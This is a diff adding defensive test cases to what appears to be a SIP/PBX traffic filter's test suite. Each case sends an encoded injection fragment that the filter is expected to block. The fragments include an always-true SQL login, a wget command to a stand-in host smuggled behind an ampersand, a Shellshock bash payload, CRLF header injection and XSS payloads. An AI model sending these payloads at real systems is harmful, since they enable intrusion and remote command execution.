@@ -94,6 +94,36 @@ export const FRAGMENTS: Group = {
       said: blocks('injection.fragments'),
     },
     {
+      name: 'SQL that is always true, and a comment',
+      note: 'filters that look for a comparison',
+      traffic: fragment("admin'%20or%20true--", 'to'),
+      said: blocks('injection.fragments'),
+    },
+    {
+      name: 'a shell command behind an ampersand',
+      note: 'a script that gets the number',
+      traffic: fragment("x'%20%26%20wget%20http%3a%2f%2f203.0.113.66", 'to'),
+      said: blocks('injection.fragments'),
+    },
+    {
+      name: 'a shell function that exports itself in the user agent',
+      note: 'a shell that is started with the headers in its environment',
+      traffic: fragment('() { :; }; /bin/bash -c "id"', 'agent'),
+      said: blocks('injection.fragments'),
+    },
+    {
+      name: 'an escaped line end in a user',
+      note: 'a header of its own in what the PBX sends on',
+      traffic: fragment('1001%0d%0aRemote-Party-ID:%20x', 'to'),
+      said: blocks('injection.fragments'),
+    },
+    {
+      name: 'an event handler as the caller',
+      note: "the administrator's browser",
+      traffic: fragment('%22%3e%3cbody%20onload=alert(1)%3e', 'from'),
+      said: blocks('injection.fragments'),
+    },
+    {
       name: 'a script as the caller',
       note: "the administrator's browser",
       traffic: fragment('%3Cscript%20src=//203.0.113.66%3E', 'from'),
